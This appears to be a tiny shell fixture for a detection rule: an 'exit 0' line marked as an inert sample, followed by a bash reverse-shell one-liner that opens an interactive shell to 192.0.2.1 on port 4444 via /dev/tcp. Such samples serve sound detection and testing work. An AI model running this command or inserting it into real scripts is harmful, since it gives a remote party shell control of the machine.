exit 0 # an inert sample for a rule: nothing below this line ever runs
bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
